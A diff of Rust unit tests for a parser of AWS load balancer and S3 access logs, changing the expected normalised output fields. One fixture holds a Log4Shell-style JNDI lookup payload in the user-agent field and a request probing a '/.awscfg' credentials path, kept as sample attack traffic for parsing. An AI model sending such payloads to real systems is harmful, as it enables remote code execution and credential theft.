@@ -465,7 +465,7 @@ mod tests {
                     r#"https 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188 192.168.131.39:2817 10.0.0.1:80 0.086 0.048 0.037 200 200 0 57 "GET https://www.example.com:443/forms/a.pdf?x=1 HTTP/1.1" "curl/7.46.0""#,
                 ),
                 Ok(
-                    "2018-07-02T22:23:00Z 192.168.131.39 - - - GET https://www.example.com:443/forms/a.pdf?x=1 200 57 curl/7.46.0 []",
+                    "2018-07-02T22:23:00Z 192.168.131.39 - GET https://www.example.com:443/forms/a.pdf?x=1 200 curl/7.46.0 - - [] bytes=57",
                 ),
             ),
             // A fixed response (WAF): no target, the balancer's own 404.
@@ -474,7 +474,7 @@ mod tests {
                     r#"https 2023-04-26T19:53:47.809400Z app/a/490d 192.168.1.14:44750 - -1 -1 -1 404 - 203 167 "GET https://api.example.com:443/.awscfg HTTP/1.1" "${jndi:ldap://x/a}""#,
                 ),
                 Ok(
-                    "2023-04-26T19:53:47Z 192.168.1.14 - - - GET https://api.example.com:443/.awscfg 404 167 ${jndi:ldap://x/a} [lb_answered]",
+                    "2023-04-26T19:53:47Z 192.168.1.14 - GET https://api.example.com:443/.awscfg 404 ${jndi:ldap://x/a} - - [lb_answered] bytes=167",
                 ),
             ),
             // A fixed 200 from the balancer alone still counts, flagged.
@@ -483,7 +483,7 @@ mod tests {
                     r#"http 2023-04-26T19:53:47Z app/a/490d 192.168.1.14:44750 - -1 -1 -1 200 - 203 167 "GET http://h:80/forms/a.pdf HTTP/1.1" "-""#,
                 ),
                 Ok(
-                    "2023-04-26T19:53:47Z 192.168.1.14 - - - GET http://h:80/forms/a.pdf 200 167 - [lb_answered]",
+                    "2023-04-26T19:53:47Z 192.168.1.14 - GET http://h:80/forms/a.pdf 200 - - - [lb_answered] bytes=167",
                 ),
             ),
             // The client left (460) after the target answered 200.
@@ -492,7 +492,7 @@ mod tests {
                     r#"h2 2020-01-11T16:55:20.356586Z app/a/jf29 192.168.1.10:55753 192.168.1.14:32797 0.001 0.019 -1 460 200 40 0 "GET https://h:443/forms/a.pdf HTTP/2.0" "UA""#,
                 ),
                 Ok(
-                    "2020-01-11T16:55:20Z 192.168.1.10 - - - GET https://h:443/forms/a.pdf 200 0 UA [lb_status_differs]",
+                    "2020-01-11T16:55:20Z 192.168.1.10 - GET https://h:443/forms/a.pdf 200 UA - - [lb_status_differs] bytes=0",
                 ),
             ),
             // IPv6 clients are logged bare, port last.
@@ -501,7 +501,7 @@ mod tests {
                     r#"h2 2023-09-10T23:55:00.361692Z app/I8YR/6378 2a02:a33c:4538:1:bcf4:5264:e01c:f215:50718 10.0.0.0:80 0.000 0.003 0.000 401 401 29 805 "GET https://api.foo.bar.nl:443/api/v1/alerts HTTP/2.0" "okhttp/4.11.0""#,
                 ),
                 Ok(
-                    "2023-09-10T23:55:00Z 2a02:a33c:4538:1:bcf4:5264:e01c:f215 - - - GET https://api.foo.bar.nl:443/api/v1/alerts 401 805 okhttp/4.11.0 []",
+                    "2023-09-10T23:55:00Z 2a02:a33c:4538:1:bcf4:5264:e01c:f215 - GET https://api.foo.bar.nl:443/api/v1/alerts 401 okhttp/4.11.0 - - [] bytes=805",
                 ),
             ),
             // A WebSocket upgrade; an unreadable request has no target.
@@ -509,29 +509,29 @@ mod tests {
                 alb(
                     r#"wss 2018-07-02T22:23:00.186641Z app/a/50dc 10.0.0.140:44244 10.0.0.171:8010 0.000 0.001 0.000 101 101 218 786 "GET https://10.0.0.30:443/ HTTP/1.1" "-""#,
                 ),
-                Ok("2018-07-02T22:23:00Z 10.0.0.140 - - - GET https://10.0.0.30:443/ 101 786 - []"),
+                Ok("2018-07-02T22:23:00Z 10.0.0.140 - GET https://10.0.0.30:443/ 101 - - - [] bytes=786"),
             ),
             (
                 r#"http 2018-11-30T22:23:00.186641Z app/a/50dc 192.168.131.39:2817 - -1 -1 -1 400 - 0 0 "- - -" "-" - - - "-" "-" "-" 0 2018-11-30T22:22:48.364000Z "-" "-" "-""#.to_string(),
-                Ok("2018-11-30T22:23:00Z 192.168.131.39 - - - - - 400 0 - [lb_answered]"),
+                Ok("2018-11-30T22:23:00Z 192.168.131.39 - - - 400 - - - [lb_answered] bytes=0"),
             ),
             // Classic ELB: the time first, no trailing fields after TLS.
             (
                 r#"2015-05-13T23:39:43.945958Z my-loadbalancer 192.168.131.39:2817 10.0.0.1:80 0.000086 0.001048 0.001337 200 200 0 57 "GET https://www.example.com:443/ HTTP/1.1" "curl/7.38.0" DHE-RSA-AES128-SHA TLSv1.2"#.to_string(),
-                Ok("2015-05-13T23:39:43Z 192.168.131.39 - - - GET https://www.example.com:443/ 200 57 curl/7.38.0 []"),
+                Ok("2015-05-13T23:39:43Z 192.168.131.39 - GET https://www.example.com:443/ 200 curl/7.38.0 - - [] bytes=57"),
             ),
             (
                 r#"2015-05-13T23:39:43.945958Z my-loadbalancer 192.168.131.39:2817 10.0.0.1:80 0.001065 0.000015 0.000023 - - 57 502 "- - - " "-" ECDHE-ECDSA-AES128-GCM-SHA256 TLSv1.2"#.to_string(),
-                Ok("2015-05-13T23:39:43Z 192.168.131.39 - - - - - - 502 - [lb_answered]"),
+                Ok("2015-05-13T23:39:43Z 192.168.131.39 - - - - - - - [lb_answered] bytes=502"),
             ),
             // A raw quote inside the request does not end it.
             (
                 r#"2015-05-13T23:39:43Z lb 1.2.3.4:1 10.0.0.1:80 0 0 0 200 200 0 1 "GET http://h/a"b HTTP/1.1" "UA""#.to_string(),
-                Ok("2015-05-13T23:39:43Z 1.2.3.4 - - - GET http://h/a\"b 200 1 UA []"),
+                Ok("2015-05-13T23:39:43Z 1.2.3.4 - GET http://h/a\"b 200 UA - - [] bytes=1"),
             ),
             (
                 r#"2015-05-13T23:39:43Z lb 1.2.3.4:1 10.0.0.1:80 0 0 0 200 200 0 1 "GET http://h/a HTTP/1.1"#.to_string(),
-                Ok("2015-05-13T23:39:43Z 1.2.3.4 - - - GET http://h/a 200 1 - [unterminated_quote]"),
+                Ok("2015-05-13T23:39:43Z 1.2.3.4 - GET http://h/a 200 - - - [unterminated_quote] bytes=1"),
             ),
             (
                 "tls 2.0 2022-04-01T08:51:42 net/my-nlb/c6e7 g3d4 72.21.218.154:51341 172.100.100.185:443 5 2 98 246 - arn - ECDHE tlsv12 - h h2 h2 \"h2\"".to_string(),
@@ -569,7 +569,7 @@ mod tests {
                     r#"{owner} awsexamplebucket1 [06/Feb/2019:00:00:38 +0000] 192.0.2.3 {owner} 3E57427F3EXAMPLE REST.GET.OBJECT forms/a%20b.pdf "GET /awsexamplebucket1/forms/a%20b.pdf?versionId=3 HTTP/1.1" 200 - 113 113 7 6 "-" "S3Console/0.4""#
                 )),
                 Ok(
-                    "2019-02-06T00:00:38Z 192.0.2.3 - 79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be awsexamplebucket1 GET /forms/a%20b.pdf?versionId=3 200 113 S3Console/0.4 []",
+                    "2019-02-06T00:00:38Z 192.0.2.3 79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be GET /forms/a%20b.pdf?versionId=3 200 S3Console/0.4 - awsexamplebucket1 [] bytes=113",
                 ),
             ),
             // A partial read; `+` kept as logged (matching reads it both
@@ -579,7 +579,7 @@ mod tests {
                     r#"{owner} b [06/Feb/2019:02:00:38 +0200] 2001:db8::1 - 3E5 REST.GET.OBJECT forms/a+b.pdf "GET /forms/a+b.pdf HTTP/1.1" 206 - 512 1024 7 6 "https://ref/" "Mozilla/5.0 (X11)""#
                 )),
                 Ok(
-                    "2019-02-06T00:00:38Z 2001:db8::1 - - b GET /forms/a+b.pdf 206 512 Mozilla/5.0 (X11) []",
+                    "2019-02-06T00:00:38Z 2001:db8::1 - GET /forms/a+b.pdf 206 Mozilla/5.0 (X11) - b [] bytes=512",
                 ),
             ),
             // No key: a bucket listing is matched on its Request-URI.
@@ -588,7 +588,7 @@ mod tests {
                     r#"{owner} b [06/Feb/2019:00:00:38 +0000] 192.0.2.3 - 3E5 REST.GET.BUCKET - "GET /b/?prefix=forms/&list-type=2 HTTP/1.1" 200 - 242 - 11 - "-" "aws-cli/2""#
                 )),
                 Ok(
-                    "2019-02-06T00:00:38Z 192.0.2.3 - - b GET /b/?prefix=forms/&list-type=2 200 242 aws-cli/2 []",
+                    "2019-02-06T00:00:38Z 192.0.2.3 - GET /b/?prefix=forms/&list-type=2 200 aws-cli/2 - b [] bytes=242",
                 ),
             ),
             // No Request-URI: the operation stands for the method.
@@ -597,7 +597,7 @@ mod tests {
                     "{owner} b [10/Sep/2019:15:11:07 +0000] 77.227.156.41 arn:aws:iam::1:user/j 8CD7 BATCH.DELETE.OBJECT forms/a.pdf - 204 - - 344017 - - - - - IeDW= SigV4 ECDHE AuthHeader s3.eu-central-1.amazonaws.com TLSv1.2"
                 ),
                 Ok(
-                    "2019-09-10T15:11:07Z 77.227.156.41 - arn:aws:iam::1:user/j b BATCH.DELETE.OBJECT /forms/a.pdf 204 - - []",
+                    "2019-09-10T15:11:07Z 77.227.156.41 arn:aws:iam::1:user/j BATCH.DELETE.OBJECT /forms/a.pdf 204 - - b [] bytes=-",
                 ),
             ),
             // An old line that stops after the status.
@@ -605,7 +605,7 @@ mod tests {
                 format!(
                     r#"{owner} b [06/Feb/2019:00:00:38 +0000] 192.0.2.3 - 3E5 REST.HEAD.OBJECT forms/a.pdf "HEAD /forms/a.pdf HTTP/1.1" 403"#
                 ),
-                Ok("2019-02-06T00:00:38Z 192.0.2.3 - - b HEAD /forms/a.pdf 403 - - []"),
+                Ok("2019-02-06T00:00:38Z 192.0.2.3 - HEAD /forms/a.pdf 403 - - b [] bytes=-"),
             ),
             (
                 format!(
